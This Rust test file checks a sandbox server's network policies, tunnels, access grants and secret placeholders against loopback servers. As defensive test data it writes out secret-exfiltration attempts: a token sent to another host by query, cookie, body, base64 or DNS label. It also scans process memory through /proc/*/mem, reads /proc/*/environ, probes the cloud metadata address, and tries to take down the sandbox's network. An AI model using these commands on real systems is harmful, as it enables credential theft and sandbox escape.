//! What sandboxes reach, through the real doors. Servers of the tests are on this machine's loopback, which policies of the
//! tests name; nothing else is ever sent anywhere.

use std::{
    io::{Read, Write},
    net::TcpListener,
};

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::{
    harness::{Client, Era, start_in, start_with, start_with_a_user},
    person::{Person, text},
};

/// A web server on loopback that says `served` and the path, and a folder with a policy `named` that reaches it.
fn world() -> (u16, TempDir) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || listener.incoming().flatten().for_each(serve));
    let policies = tempfile::tempdir().unwrap();
    let named = format!("extends = \"full_isolation\"\nhost_ports = [{port}]\n");
    std::fs::write(policies.path().join("named.toml"), named).unwrap();
    (port, policies)
}

/// A web server in Python on loopback that answers with the headers it got, and writes them to a file.
pub struct Echo {
    child: std::process::Child,
    pub port: u16,
    seen: std::path::PathBuf,
}

impl Echo {
    pub fn start(folder: &std::path::Path, tls: bool) -> Self {
        let script = r#"
import http.server, ssl, sys
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_POST(self):
        length = int(self.headers.get('content-length', 0))
        self.rfile.read(length)
        self.do_GET()
    def do_GET(self):
        if self.path.endswith('/messages'):
            body = b'{"type":"message","model":"test-model","usage":{"input_tokens":12,"output_tokens":34}}'
            open(sys.argv[1], 'ab').write((self.path + '\n' + str(self.headers)).encode())
            self.send_response(200); self.send_header('content-type', 'application/json')
            self.send_header('content-length', str(len(body))); self.end_headers()
            self.wfile.write(body); return
        body = (self.path + '\n' + str(self.headers)).encode()
        open(sys.argv[1], 'ab').write(body)
        self.send_response(200); self.send_header('content-length', str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *words): pass
server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
if len(sys.argv) > 2:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[2], sys.argv[3])
    server.socket = context.wrap_socket(server.socket, server_side=True)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;
        let seen = folder.join("seen");
        let mut command = std::process::Command::new("python3");
        command.args(["-c", script]).arg(&seen).stdout(std::process::Stdio::piped());
        if tls {
            make_certificates(folder);
            command.arg(folder.join("cert.pem")).arg(folder.join("key.pem"));
        }
        let mut child = command.spawn().unwrap();
        let mut line = String::new();
        std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
        Self { child, port: line.trim().parse().unwrap(), seen }
    }

    pub fn seen(&self) -> String {
        std::fs::read_to_string(&self.seen).unwrap_or_default()
    }
}

impl Drop for Echo {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// An authority, `ca.pem`, and a certificate of it for `host.internal`.
fn make_certificates(folder: &std::path::Path) {
    let script = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -keyout ca.key -out ca.pem\n\
                  openssl req -newkey rsa:2048 -nodes -subj /CN=host.internal -keyout key.pem -out request.pem\n\
                  echo subjectAltName=DNS:host.internal > names\n\
                  openssl x509 -req -in request.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile names -out cert.pem";
    let made = std::process::Command::new("sh").args(["-ec", script]).current_dir(folder).output().unwrap();
    assert!(made.status.success(), "{made:?}");
}

fn serve(mut stream: std::net::TcpStream) {
    std::thread::spawn(move || {
        let mut head = [0; 4096];
        let length = stream.read(&mut head).unwrap_or(0);
        let path = String::from_utf8_lossy(&head[..length]).split(' ').nth(1).unwrap_or_default().to_owned();
        let body = format!("served {path}\n");
        let length = body.len();
        let _ = write!(stream, "HTTP/1.1 200 OK\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}");
    });
}

fn variables(policies: &TempDir) -> [(&'static str, &str); 1] {
    [("SANDBOX_MCP_POLICY_FOLDER", policies.path().to_str().unwrap())]
}

/// Where nothing is redirected and no tunnel can be made only programs that know a proxy reach anything.
pub fn only_by_proxy() -> bool {
    let set = |name: &str| std::env::var_os(name).is_some();
    set("SANDBOX_MCP_USE_BWRAP") || (set("SANDBOX_MCP_NO_NFTABLES") && !has_tunnels())
}

/// Whether this user may make tunnels.
fn has_tunnels() -> bool {
    std::fs::OpenOptions::new().read(true).write(true).open("/dev/net/tun").is_ok()
}

/// curl's words for each way that there is: by the proxy that variables name, and without it.
pub fn ways() -> &'static [&'static str] {
    if only_by_proxy() { &[""] } else { &["", "--noproxy '*'"] }
}

async fn fetch(client: &Client, session: &str, url: &str, how: &str) -> Value {
    client.run(session, &format!("curl -sS {how} -m 20 {url}")).await
}

#[tokio::test]
async fn what_the_policy_names_is_reached_in_both_ways_and_nothing_else() {
    let (port, policies) = world();
    let client = start_with(Era::Legacy, &variables(&policies)).await;
    let session = client.sandbox_with(json!({"policy": "named"})).await;
    let url = format!("http://host.internal:{port}/x");
    let without_proxy = ["--noproxy '*'", "--noproxy '*' -6"];
    if only_by_proxy() {
        for how in without_proxy {
            assert_ne!(fetch(&client, &session, &url, how).await["exit_code"], 0, "{how}");
        }
    }
    for how in
        ["", "-x socks5h://127.0.0.1:3128"].into_iter().chain(without_proxy.into_iter().filter(|_| !only_by_proxy()))
    {
        let served = fetch(&client, &session, &url, how).await;
        assert_eq!(served["stdout"], "served /x\n", "{how}: {served}");
        assert_eq!(served["denials"], json!([]), "{served}");
    }
    // The name of the machine is the only way: inside, its loopback is the sandbox's own.
    for (url, how) in [
        (format!("http://127.0.0.1:{port}/x"), "--noproxy '*'"),
        (format!("http://127.0.0.1:{port}/x"), "--proxy http://127.0.0.1:3128 --noproxy ''"),
        (format!("http://localhost:{port}/x"), "--proxy http://127.0.0.1:3128 --noproxy ''"),
        ("http://93.184.215.14/".to_owned(), "--noproxy '*'"),
        ("http://example.invalid/".to_owned(), ""),
        ("https://example.invalid/".to_owned(), ""),
        ("http://169.254.169.254/latest/".to_owned(), ""),
    ] {
        let refused = fetch(&client, &session, &url, how).await;
        assert!(!refused["stdout"].to_string().contains("served"), "{url} {how}: {refused}");
    }
    for how in ways() {
        let page = fetch(&client, &session, "http://93.184.215.14/", how).await;
        assert!(page["stdout"].as_str().unwrap().contains("no rule of this sandbox's policy"), "{page}");
    }
    let refused = fetch(&client, &session, "http://example.invalid/", "").await;
    let denial = &refused["denials"][0];
    assert_eq!((&denial["kind"], &denial["target"]), (&json!("network"), &json!("example.invalid:80")), "{refused}");
    assert!(denial["how_to_ask"].as_str().unwrap().contains("request_access"), "{denial}");
    assert_eq!(denial["verdict"], "no_rule", "{denial}");
    let history = client.history(&session, "connection", if only_by_proxy() { 7 } else { 8 }).await;
    let connected = history.iter().find(|event| event["verdict"] == "allowed").unwrap();
    assert_eq!(connected["target"], format!("host.internal:{port}"));
    assert!(connected["sent"].as_u64() > Some(20) && connected["received"].as_u64() > Some(20), "{connected}");
    assert!(history.iter().any(|event| event["verdict"] == "no_rule" && event["refused"] == true), "{history:?}");
}

/// A server on loopback that sends everything back, and ends when the other side has.
fn echo() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || std::io::copy(&mut &stream, &mut &stream));
        }
    });
    port
}

#[tokio::test]
async fn without_the_packet_filter_a_tunnel_leads_to_the_same_place() {
    if !has_tunnels() || std::env::var_os("SANDBOX_MCP_USE_BWRAP").is_some() {
        return println!("skipped: no tunnel can be made here");
    }
    let (port, policies) = (echo(), tempfile::tempdir().unwrap());
    let policy = format!("extends = \"full_isolation\"\nhost_ports = [{port}]\n");
    std::fs::write(policies.path().join("named.toml"), policy).unwrap();
    let settings = [("SANDBOX_MCP_NO_NFTABLES", "1"), variables(&policies)[0]];
    let client = start_with(Era::Legacy, &settings).await;
    let session = client.sandbox_with(json!({"policy": "named"})).await;
    let status = client.ok("get_sandbox_status", json!({"session_id": session})).await;
    assert!(status.to_string().contains("a tunnel to us"), "{status}");
    // Much, both ways at once, in both families; and what is said last is what ends it.
    let script = format!(
        r#"
import os, socket, threading
for family in socket.AF_INET, socket.AF_INET6:
    address = socket.getaddrinfo('host.internal', {port}, family, socket.SOCK_STREAM)[0][4]
    streams = [socket.create_connection(address[:2], 10) for _ in range(20)]
    words = b'\0' + os.urandom(8 << 20)
    sender = threading.Thread(target=lambda: (streams[0].sendall(words), streams[0].shutdown(socket.SHUT_WR)))
    sender.start()
    back = b''.join(iter(lambda: streams[0].recv(1 << 16), b''))
    print(back == words, end=' ')
    for number, stream in enumerate(streams[1:]):
        stream.sendall(b'\0%d' % number)
    print(all(stream.recv(9) == b'\0%d' % number for number, stream in enumerate(streams[1:])))
for wanted in ('8.8.8.8', 123), ('2606:4700::1111', 123):
    asking = socket.socket(socket.AF_INET6 if ':' in wanted[0] else socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(10); asking.connect(wanted); asking.send(b'x')
    try: asking.recv(9); print('an answer')
    except OSError as error: print(type(error).__name__)
try: print('an answer', socket.create_connection(('93.184.215.14', 443), 10).recv(9))
except OSError as error: print(type(error).__name__)
"#
    );
    let arguments = json!({"session_id": session, "files": [{"path": "try.py", "content": script}]});
    client.ok("write_files", arguments).await;
    let words = "True True\nTrue True\nConnectionRefusedError\nConnectionRefusedError\nConnectionResetError\n";
    // Nobody inside can change it, or make another one.
    for before in
        ["true", "ip link set sandbox down; ip route del default; ip tuntap add mode tun own; cat /dev/net/tun"]
    {
        let ran = client.run(&session, &format!("{before}; python3 try.py")).await;
        assert_eq!(ran["stdout"], words, "{ran}");
        assert_eq!(ran["denials"][0]["target"], "93.184.215.14:443", "{ran}");
    }
}

#[tokio::test]
async fn what_is_granted_is_reached_from_then_on() {
    let client = start_with_a_user(Era::Legacy, &[]).await;
    let session = client.sandbox_with(json!({"policy": "yolo-3"})).await;
    let code = "curl -s -o /dev/null -w '%{http_code}' http://granted.invalid:8080/";
    assert_eq!(client.run(&session, code).await["stdout"], "403");
    let wish = json!({"session_id": session, "kind": "network", "target": "granted.invalid:8080", "reason": "to look"});
    let no = client.call_answering("request_access", wish.clone(), json!({"action": "decline"})).await;
    assert!(no.0.is_error && client.run(&session, code).await["stdout"] == "403");
    let yes = json!({"action": "accept", "content": {"allow": true}});
    let (given, question) = client.call_answering("request_access", wish.clone(), yes.clone()).await;
    assert_eq!(
        (&given.value["granted"], &given.value["granted_for"]),
        (&json!(true), &json!("10 minutes")),
        "{given:?}"
    );
    let question = question.unwrap().to_string();
    assert!(question.contains("It wants to connect to granted.invalid (port 8080)") && !question.contains("once"));
    // Nobody has such a name: the policy is no longer what stands against it.
    let after = client.run(&session, code).await;
    assert_eq!((&after["stdout"], &after["denials"]), (&json!("502"), &json!([])), "{after}");
    let (already, question) = client.call_answering("request_access", wish, yes).await;
    assert!(already.text.contains("just connect") && question.is_none(), "{already:?}");
    let other = client.sandbox().await;
    assert_eq!(client.run(&other, code).await["stdout"], "403", "a grant is for one sandbox");
    let status = client.ok("get_sandbox_status", json!({"session_id": session})).await;
    let grant = &status["sandboxes"][0]["grants"][0];
    assert_eq!((&grant["kind"], &grant["granted_for"]), (&json!("network"), &json!("10 minutes")), "{status}");
}

#[tokio::test]
async fn a_sandbox_without_a_server_reaches_nothing_and_with_the_next_one_all_again() {
    let (port, policies) = world();
    let folder = tempfile::tempdir().unwrap();
    let mut first = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
    let session = first.sandbox_with(json!({"policy": "named", "persistent": true})).await;
    let way = ways().last().unwrap();
    let script = format!(
        "while ! test -e /tmp/go; do sleep 0.1; done; curl -sS {way} -m 1 http://host.internal:{port}/alone; echo $?"
    );
    let job = first.ok("run_command", json!({"session_id": session, "command": script, "wait_seconds": 0})).await;
    first.kill().await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mut second = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
    let served = fetch(&second, &session, &format!("http://host.internal:{port}/again"), way).await;
    assert_eq!(served["stdout"], "served /again\n", "{served}");
    second.output(&session, "touch /tmp/go").await;
    let arguments = json!({"session_id": session, "job_id": job["job_id"], "wait_seconds": 20});
    assert_eq!(second.ok("get_output", arguments).await["stdout"], "served /alone\n0\n");
    second.ok("cleanup_session", json!({"session_id": session})).await;
    second.close().await;
}

#[tokio::test]
async fn whoever_uses_a_sandbox_that_nobody_looks_after_serves_its_way_out() {
    let (port, policies) = world();
    let folder = tempfile::tempdir().unwrap();
    let mut server = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
    let session = server.sandbox_with(json!({"policy": "named", "persistent": true})).await;
    server.close().await;
    let person = Person::new();
    let types = |words: &[&str]| {
        let mut command = person.types(words);
        command.env("WORKSPACE_BASE", folder.path().join("state")).envs(variables(&policies));
        command
    };
    let fetch = |path: &str| format!("curl -sS {} -m 10 http://host.internal:{port}/{path}", ways().last().unwrap());
    let visited = |script: &str| types(&["exec", "--session", &session, "--", "sh", "-c", script]);
    let first = visited(&format!("{}; curl -s http://example.invalid/; true", fetch("alone"))).output().unwrap();
    assert!(text(&first.stdout).starts_with("served /alone"), "{first:?}");
    assert!(text(&first.stderr).contains("example.invalid:80"), "{first:?}");
    // When one that served it ends, another goes on.
    let mut one = visited("sleep 1.5").spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    let other = visited(&format!("{}; sleep 3; {}", fetch("by-another"), fetch("by-itself"))).output().unwrap();
    assert_eq!(text(&other.stdout), "served /by-another\nserved /by-itself", "{other:?}");
    one.wait().unwrap();
    let told = types(&["logs", "--network", "--json"]).output().unwrap();
    assert_eq!(text(&told.stdout).matches("\"allowed\"").count(), 3, "{told:?}");
    assert!(types(&["rm", &session]).status().unwrap().success());
}

#[test]
fn a_single_command_reaches_what_it_may_and_is_told_what_it_may_not() {
    let (port, policies) = world();
    let person = Person::new();
    let policy = policies.path().join("named.toml");
    let script = format!("curl -sS http://host.internal:{port}/single; curl -s http://example.invalid/; true");
    let output = person.run(&["exec", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script]);
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    assert!(stdout.starts_with("served /single\n") && output.status.success(), "{stdout} {stderr}");
    assert!(stderr.contains("example.invalid:80") && stderr.contains("--policy"), "{stderr}");
    assert!(!stderr.contains("request_access") && !stdout.contains("request_access"), "{stdout} {stderr}");
    let logged = person.run(&["logs", "--network", "--json"]);
    let events: Vec<Value> = text(&logged.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let verdicts: Vec<_> = events.iter().map(|event| (&event["target"], &event["verdict"])).collect();
    let (reached, refused) = (json!(format!("host.internal:{port}")), json!("example.invalid:80"));
    assert_eq!(verdicts, [(&reached, &json!("allowed")), (&refused, &json!("no_rule"))], "{logged:?}");
    std::thread::sleep(std::time::Duration::from_millis(100));
    assert_eq!(crate::harness::processes_with(policy.to_str().unwrap()), 0, "nobody stays behind");
    // With somebody in between it is the same.
    let script = format!("curl -sS http://host.internal:{port}/relayed");
    let relayed = person.run(&["--json", "exec", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script]);
    assert!(text(&relayed.stdout).contains("served /relayed"), "{relayed:?}");
    let logged = person.run(&["logs", "--json"]);
    let events: Vec<Value> = text(&logged.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert!(events.len() == 3 && events.iter().all(|event| event["event"] == "connection"), "{logged:?}");
}

#[test]
fn who_tries_to_connect_without_a_network_is_told_that_there_is_none() {
    let person = Person::new();
    let tell = |script: &str| {
        let output = person.run(&["exec", "--policy", "yolo-1", "--", "sh", "-c", script]);
        (output.status.code(), text(&output.stderr).to_owned())
    };
    for fails in
        ["curl -sS http://example.invalid/", "curl -sS http://198.51.100.7/", "curl -sS 'http://[2001:db8::7]/'"]
    {
        let (code, stderr) = tell(fails);
        let told = stderr.contains("gives no network [policy `yolo-1`]") && stderr.contains("yolo-2");
        // bwrap makes the network itself, and nobody of ours can look into it.
        assert!(code != Some(0) && (told || only_by_proxy()), "{fails}: {stderr}");
    }
    let script = "$BIN exec --policy yolo-1 -- curl -sS http://198.51.100.7/; echo code $?";
    let seen = crate::person::typing_at_a_terminal(&person, script, &[]);
    assert!(seen.contains("code 7") && (seen.contains("gives no network") || only_by_proxy()), "at a terminal: {seen}");
    for other in ["false", "curl -sS http://127.0.0.1:9/", "curl -s http://example.invalid/; true"] {
        let (_, stderr) = tell(other);
        assert!(!stderr.contains("network"), "{other}: {stderr}");
    }
}

#[test]
fn connections_beyond_the_limit_are_told_with_the_limit() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_secs(1));
                serve(stream);
            });
        }
    });
    let person = Person::new();
    let policy = person.folder("two.toml");
    let two = format!("extends = \"full_isolation\"\nhost_ports = [{port}]\n[limits]\nconnections = 2\n");
    std::fs::write(&policy, two).unwrap();
    let script = format!("for i in 1 2 3 4; do curl -s http://host.internal:{port}/$i & done; wait");
    let ran = person.run(&["exec", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script]);
    let (stdout, stderr) = (text(&ran.stdout), text(&ran.stderr));
    assert_eq!(stdout.matches("served").count(), 2, "{stdout} {stderr}");
    assert!(stderr.contains("too_many_connections") && stderr.contains("`connections` under [limits]"), "{stderr}");
    let logged = person.run(&["logs", "--network", "--json"]);
    let told = text(&logged.stdout).lines().find(|line| line.contains("too_many_connections")).unwrap();
    assert!(told.contains("\"refused\":true"), "{told}");
}

pub const VALUE: &str = "the-real-value-0123456789";

/// A folder with settings that have a secret for `host.internal`, and a policy `named` that reaches it. The answer is the
/// port of somebody else who is reached too.
pub fn with_secret(echo: &Echo, folder: &std::path::Path, more: &str) -> u16 {
    let (plain, (other, _)) = (echo.port, world());
    let settings = format!(
        "{more}\npolicy_folder = {folder:?}\n[secrets.token]\nvalue = \"{VALUE}\"\nhosts = [\"host.internal\"]\n\
         ports = [{plain}]\nplain_http = true\npolicies = [\"named\"]\n\
         [services.model]\nurl = \"http://host.internal:{plain}/v1\"\nsecret = \"token\"\nvariables = [\"MODEL_URL\"]\n\
         within = [\"127.0.0.0/8\"]\npolicies = [\"named\"]\n"
    );
    let file = folder.join("settings.toml");
    std::fs::write(&file, settings).unwrap();
    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let policy = format!("extends = \"full_isolation\"\nhost_ports = [{plain}, {other}]\n");
    std::fs::write(folder.join("named.toml"), policy).unwrap();
    other
}

/// Asks with the secret, and then looks for it in the memory of every process that it may look into. What it looks for is
/// never in its own memory: one bit of each byte is turned, in the needle and in what is searched.
const LOOK_INTO_MEMORY: &str = r#"
import json, os, re, subprocess, sys, urllib.request
other = subprocess.Popen(["sleep", "60"])
request = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
answer = urllib.request.urlopen(request).read()
needle, turned = bytes.fromhex(sys.argv[2]), bytes(byte ^ 1 for byte in range(256))
values, processes, placeholders = 0, 0, False
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb")
    except OSError:
        continue
    processes += 1
    for begin, end in re.findall("^([0-9a-f]+)-([0-9a-f]+) r", maps, re.M):
        try:
            memory.seek(int(begin, 16))
            piece = memory.read(int(end, 16) - int(begin, 16))
        except (OSError, ValueError, OverflowError):
            continue
        placeholders = placeholders or b"sbx_secret_token_" in piece
        values += piece.translate(turned).count(needle)
other.kill()
print(json.dumps({"values": values, "processes": processes, "placeholders": placeholders}))
"#;

#[tokio::test]
async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
    let folder = tempfile::tempdir().unwrap();
    let echo = Echo::start(folder.path(), false);
    let other = with_secret(&echo, folder.path(), "");
    let config = folder.path().join("settings.toml");
    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
    let session = client.sandbox_with(json!({"policy": "named"})).await;
    let port = echo.port;
    for how in ways() {
        let url = format!("http://host.internal:{port}/plain");
        let command = format!("curl -sS {how} -H \"Authorization: Bearer $TOKEN\" {url}");
        let answer = client.run(&session, &command).await;
        // The server sends back what it got; what comes in has the placeholder again.
        assert!(answer["stdout"].as_str().unwrap().contains("Authorization: Bearer sbx_secret_token_"), "{answer}");
    }
    assert_eq!(echo.seen().matches(&format!("Authorization: Bearer {VALUE}")).count(), ways().len(), "{}", echo.seen());
    let model = client.run(&session, "curl -sS --noproxy '*' -H \"x-api-key: $TOKEN\" $MODEL_URL/messages").await;
    assert!(model["stdout"].as_str().unwrap().contains("test-model"), "{model}");
    let history = client.history(&session, "spent", 1).await;
    let spent = history.iter().find(|event| event["event"] == "spent").unwrap();
    assert_eq!((&spent["input_tokens"], &spent["output_tokens"]), (&json!(12), &json!(34)), "{spent}");
    assert!(echo.seen().contains(&format!("x-api-key: {VALUE}")), "{}", echo.seen());
    // What a server could store and show again, in another form or by another name, never has it.
    let stored =
        format!("curl -sS -d \"x=$TOKEN\" -H \"X-Anything: $TOKEN\" \"http://host.internal:{port}/store?x=$TOKEN\"");
    let before = echo.seen().matches(VALUE).count();
    client.run(&session, &stored).await;
    assert!(echo.seen().contains("/store?x=sbx_secret_token_") && echo.seen().matches(VALUE).count() == before);
    // Nowhere inside: memory of processes, also of one that has used it, variables, files, what /proc tells.
    let file = json!({"path": "/workspace/look.py", "content": LOOK_INTO_MEMORY});
    client.ok("write_files", json!({"session_id": session, "files": [file]})).await;
    let disguised: String = VALUE.bytes().map(|byte| format!("{:02x}", byte ^ 1)).collect();
    let looked = client.run(&session, &format!("python3 look.py http://host.internal:{port}/plain {disguised}")).await;
    let told: Value = serde_json::from_str(looked["stdout"].as_str().unwrap()).unwrap();
    assert_eq!((&told["values"], &told["placeholders"]), (&json!(0), &json!(true)), "{looked}");
    assert!(told["processes"].as_u64().unwrap() >= 2, "{looked}");
    let look = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; \
                grep -rl 'the-real-valu[e]' /workspace /home /tmp /etc /run /var /dev/shm 2>/dev/null; true";
    let found = client.output(&session, look).await;
    assert!(!found.contains(VALUE) && !found.contains("\n/"), "{found}");
    // To somebody else not even the placeholder goes.
    let other = format!("http://host.internal:{other}");
    for words in [
        format!("{other}/?x=$TOKEN"),
        format!("{other}/ -H \"Cookie: $TOKEN\""),
        format!("{other}/ -d \"$TOKEN\""),
        format!("{other}/ -d \"$(echo -n $TOKEN | base64 -w0)\""),
        format!("{} {other}/$TOKEN", ways().last().unwrap()),
        "http://$(echo $TOKEN | tail -c 33).invalid/".to_owned(),
    ] {
        let stopped = client.run(&session, &format!("curl -sS {words}")).await;
        assert!(!stopped["stdout"].as_str().unwrap().contains("served"), "{words}: {stopped}");
        assert!(!stopped["denials"].as_array().unwrap().is_empty(), "{words}: {stopped}");
    }
    let history = client.history(&session, "connection", 3 + ways().len()).await;
    assert!(history.iter().any(|event| event["verdict"] == "secret_leaving"), "{history:?}");
    assert!(!json!(history).to_string().contains(VALUE));
    let state = std::process::Command::new("grep").args(["-r", VALUE]).arg(client.state()).output().unwrap();
    assert_eq!(text(&state.stdout), "", "the value is in the state folder");
    assert!(!client.stderr().contains(VALUE));
    let none = client.sandbox_with(json!({"policy": "yolo-3"})).await;
    assert_eq!(client.output(&none, "echo -n $TOKEN").await, "", "a secret is for the policies that it names");
}

#[tokio::test]
async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wanted() {
    let folder = tempfile::tempdir().unwrap();
    let echo = Echo::start(folder.path(), false);
    let other = with_secret(&echo, folder.path(), "freeze_on_leak = true");
    let config = folder.path().join("settings.toml");
    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
    let session = client.sandbox_with(json!({"policy": "named"})).await;
    let loops = "while true; do date +%s%N > /tmp/clock; sleep 0.05; done";
    client.ok("run_command", json!({"session_id": session, "command": loops, "wait_seconds": 0})).await;
    let leak = format!("curl -s -m 5 http://host.internal:{other}/$TOKEN");
    let leaking = format!("echo before; {leak}; sleep 60");
    let began = std::time::Instant::now();
    let ran = client.ok("run_command", json!({"session_id": session, "command": leaking, "wait_seconds": 8})).await;
    assert!(began.elapsed().as_secs() < 5, "it was waited for");
    assert_eq!(ran["status"], "frozen", "{ran}");
    assert!(ran["stdout"].as_str().unwrap().starts_with("before\n"), "{ran}");
    let words = format!("it sent the placeholder of the secret `token` to host.internal:{other}");
    assert!(ran["notes"].to_string().contains(&words), "{ran}");
    client.history(&session, "frozen", 1).await;
    let status = client.ok("get_sandbox_status", json!({"session_id": session})).await;
    assert_eq!((&status["sandboxes"][0]["state"], &status["sandboxes"][0]["why"]), (&json!("frozen"), &json!(words)));
    let clock = json!({"session_id": session, "paths": ["/tmp/clock"]});
    let before = client.ok("get_files", clock.clone()).await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(client.ok("get_files", clock).await["files"], before["files"], "what ran goes on");
    let refused = client.refused("run_command", json!({"session_id": session, "command": "kill -CONT -1"})).await;
    assert!(refused.contains("frozen") && !refused.contains("could not make"), "{refused}");
    client.ok("cleanup_session", json!({"session_id": session})).await;
    // At a terminal too the command ends at once.
    let words = ["exec", "--policy", "named", "--timeout", "30", "--", "sh", "-c", &leaking];
    let ended = Person::new().types(&words).env("SANDBOX_MCP_CONFIG", config.to_str().unwrap()).output().unwrap();
    let stderr = text(&ended.stderr);
    assert!(stderr.contains("frozen: it sent the placeholder of the secret `token` to host"), "{ended:?}");
}

/// A server with TLS that a secret is for, a server of ours that trusts it, and a sandbox that may reach it.
pub async fn over_tls(folder: &std::path::Path) -> (Echo, crate::harness::Client, String) {
    let echo = Echo::start(folder, true);
    with_secret(&echo, folder, "");
    let (config, trusted) = (folder.join("settings.toml"), folder.join("ca.pem"));
    let variables = [("SANDBOX_MCP_CONFIG", config.to_str().unwrap()), ("SSL_CERT_FILE", trusted.to_str().unwrap())];
    let client = start_with(Era::Legacy, &variables).await;
    let session = client.sandbox_with(json!({"policy": "named"})).await;
    (echo, client, session)
}

#[tokio::test]
async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
    let folder = tempfile::tempdir().unwrap();
    let (echo, client, session) = over_tls(folder.path()).await;
    let url = format!("https://host.internal:{}/secure", echo.port);
    let python = format!(
        "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Api-Key': os.environ['TOKEN']}})).status)"
    );
    let curl = |way: &&str| format!("curl {way} -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}");
    let mut tools: Vec<String> = ways().iter().map(curl).collect();
    tools.extend([
        format!("python3 -c \"{python}\""),
        format!(
            "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"
        ),
        format!("wget -q -S -O /dev/null --header=\"X-Api-Key: $TOKEN\" {url} 2>&1 | grep -o ' 200 ' | head -1"),
    ]);
    let java = std::process::Command::new("java").arg("-version").output().is_ok_and(|java| java.status.success());
    if java && ways().len() > 1 && std::path::Path::new("/etc/ssl/certs/java/cacerts").exists() {
        // With its own store of certificates, and without a proxy.
        let source = format!(
            "public class A {{ public static void main(String[] a) throws Exception {{ var c = (java.net.HttpURLConnection) \
             new java.net.URL(\"{url}\").openConnection(); c.setRequestProperty(\"X-Api-Key\", System.getenv(\"TOKEN\")); \
             System.out.println(c.getResponseCode()); }} }}"
        );
        client
            .ok("write_files", json!({"session_id": session, "files": [{"path": "A.java", "content": source}]}))
            .await;
        if client.run(&session, "javac A.java").await["exit_code"] == 0 {
            tools.push("java A".to_owned());
        }
    }
    for (number, tool) in tools.iter().enumerate() {
        let ran = client.run(&session, tool).await;
        assert_eq!(ran["stdout"].as_str().unwrap().trim(), "200", "{tool}: {ran}");
        assert_eq!(echo.seen().matches(VALUE).count(), number + 1, "{tool}: {}", echo.seen());
    }
}
